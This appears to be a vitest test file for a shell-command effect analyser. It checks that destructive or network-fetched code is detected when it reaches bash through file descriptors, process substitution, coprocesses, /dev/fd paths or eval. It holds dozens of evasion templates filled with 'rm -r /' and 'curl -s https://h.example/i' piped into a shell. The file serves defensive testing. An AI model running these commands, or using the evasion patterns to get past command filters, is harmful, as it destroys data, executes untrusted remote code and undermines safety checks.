/** Data on its way through file descriptors. */
import { describe, expect, it } from "vitest";
import { contextOf, effectLines, programOf, understandCommand } from "../testing.ts";

const PROGRAM = programOf(`
  command rm { flags { -r -f } operands { paths: path* } delete paths with recursive = -r }
  command bash { flags { -c } operands { code: word args: rest? } when -c operands { script: path? args: rest? } when not -c
                 execute code as shell when -c  execute script as shell when not -c  execute stdin as shell when not -c and not script }
  command echo, true, ls, printf { flags { ... } operands { words: word* } }
  command cat { flags { } operands { paths: path* } copy paths, stdin to stdout }
  command tee { flags { -a } operands { paths: path* } copy stdin to paths, stdout }
  command curl { flags { -s } operands { urls: url* } copy urls to stdout }
`);

function effects(command: string): readonly string[] {
  return effectLines(understandCommand(PROGRAM, command, contextOf({}, {})));
}

const GONE = "delete / tree recursive";
const FETCHED = "execute source=network language=shell";

/** What runs what stands in the place of `@`. */
const READERS = [
  "exec 5> >(bash); @ >&5",
  "@ 3> >(bash) >&3",
  "@ | tee /dev/fd/3 3> >(bash)",
  "@ | tee /proc/self/fd/3 3> >(bash)",
  "exec {n}> >(bash); @ >&$n",
  "exec > >(bash); @",
  "exec > >(bash); true; if true; then @; fi",
  "exec 3> >(bash); exec >&3; @",
  "exec < <(@); bash",
  "exec < <(@); exec 3<&0; bash <&3",
  "exec 3< <(@); exec 4<&3; bash <&4",
  "exec 3< <(@); bash <&3-",
  "exec {n}< <(@); bash <&$n",
  "exec 3< <(@); bash /dev/fd/3",
  "bash /dev/fd/3 3< <(@)",
  "exec 3< <(@); cat <&3 | bash",
  "exec 3< <(@); bash < /dev/fd/3",
  'exec 3< <(@); read -u 3 -r x; eval "$x"',
  'exec 3< <(@); mapfile -t -u 3 x; eval "${x[0]}"',
  "{ bash <&3; } 3< <(@)",
  "f() { bash <&3; }; f 3< <(@)",
  "bash -c 'bash <&3' 3< <(@)",
  "{ @ >&3; } 3>&1 | bash",
  "{ { @ >&4; } 4>&3; } 3>&1 | bash",
  "@ | { exec 3<&0; bash <&3; }",
  "coproc { @; }; bash <&${COPROC[0]}",
  'coproc { @; }; bash <&"${COPROC[0]}"',
  "coproc N { @; }; bash <&${N[0]}",
  "coproc bash; @ >&${COPROC[1]}",
  "{ @ >&2; } 2>&1 | bash",
  "{ @ >&2; } |& bash",
  "f() { @ >&2; }; f 2>&1 | bash",
  "@ > /dev/stdout | bash",
  "{ @ > /dev/stderr; } 2>&1 | bash",
  "@ | tee /dev/stderr 2>&1 > /dev/null | bash",
  "exec 2> >(bash); @ >&2",
  "exec 3< <(@); bash /proc/$$/fd/3",
  "@ | bash < /dev/fd/0",
  "@ | bash < /proc/self/fd/0",
  "@ | bash /proc/self/fd/0",
  "@ | cat /proc/self/fd/0 | bash",
  '@ | eval "$(< /dev/stdin)"',
  '@ | { x=$(< /dev/fd/0); eval "$x"; }',
  "exec 0< <(@); bash /dev/stdin",
  "if ls a; then exec 3> >(bash); else exec 3> /dev/null; fi; @ >&3",
  "exec 3> made; @ >&3; bash made",
  "exec > made; @; bash made",
  "exec 3<> made; @ >&3; bash made",
];

describe("code that comes by a descriptor", () => {
  it.each(READERS)("is run: %s", (command) => {
    expect(effects(command.replace("@", "echo 'rm -r /'"))).toContain(GONE);
    expect(effects(command.replace("@", "curl -s https://h.example/i"))).toContainEqual(
      expect.stringContaining("source=network language=shell"),
    );
  });

  it("may come in pieces", () => {
    expect(effects("exec 5> >(bash); printf 'rm -r' >&5; printf ' ' >&5; echo / >&5")).toContain(GONE);
    expect(effects("exec > >(bash); for i in 1 2 3 4 5 6 7 8; do echo ls; done; printf 'rm -r '; echo /")).toContain(GONE);
  });

  it("may come another way than the last", () => {
    expect(effects("if ls a; then exec 3< <(curl -s https://h.example/i); else exec 3< /dev/null; fi; bash <&3")).toContain(FETCHED);
    expect(effects("if ls a; then exec 3< /dev/null; else exec 3< <(curl -s https://h.example/i); fi; bash <&3")).toContain(FETCHED);
    expect(effects("exec 3< <(curl -s https://h.example/i); ls a && exec 3< /dev/null; bash <&3")).toContain(FETCHED);
    expect(effects("if ls a; then exec < <(curl -s https://h.example/i); fi; bash")).toContain(FETCHED);
    expect(effects("while ls a; do bash <&3; exec 3< <(curl -s https://h.example/i); done")).toContain(FETCHED);
  });

  it("is not known where nobody was seen to open the descriptor", () => {
    expect(effects("bash <&9")).toEqual(["execute source=‹any› language=shell"]);
    expect(effects("bash <&$n")).toEqual(["execute source=‹any› language=shell"]);
    expect(effects("exec 5> >(bash); ls")).toContain("execute source=‹any› language=shell");
  });
});

describe("a descriptor", () => {
  it("is closed behind the command that it was opened for", () => {
    expect(effects("true 3<<< 'rm -r /'; bash <&3")).toEqual(["execute source=‹any› language=shell"]);
    expect(effects("exec 3<<< 'rm -r /'; true 3< /dev/null; bash <&3")).toContain(GONE);
    expect(effects("exec 3<<< 'rm -r /'; exec 3<<< ls; bash <&3")).not.toContain(GONE);
  });

  it("does not reach a shell that has another input or output", () => {
    expect(effects("exec < <(echo 'rm -r /'); echo ls | bash")).toEqual([]);
    expect(effects("exec < <(echo 'rm -r /'); bash < /dev/null")).toEqual([]);
    expect(effects("exec > >(bash); echo 'rm -r /' > /dev/null")).not.toContain(GONE);
    expect(effects("(exec < <(echo 'rm -r /')); bash")).toEqual([]);
  });

  it("does not have code read itself", () => {
    expect(effects("exec <<< bash; bash")).toEqual([]);
  });

  it("may lead to itself", () => {
    expect(effects("exec 3>/dev/fd/4; exec 4>/dev/fd/3; echo a > /dev/fd/4; echo b > /dev/fd/3; rm -r /")).toContain(GONE);
  });

  it("leaves what is printed to whom it is printed for", () => {
    expect(effects("exec 3>&1; echo a >&3; cat <&0")).toEqual([]);
  });
});
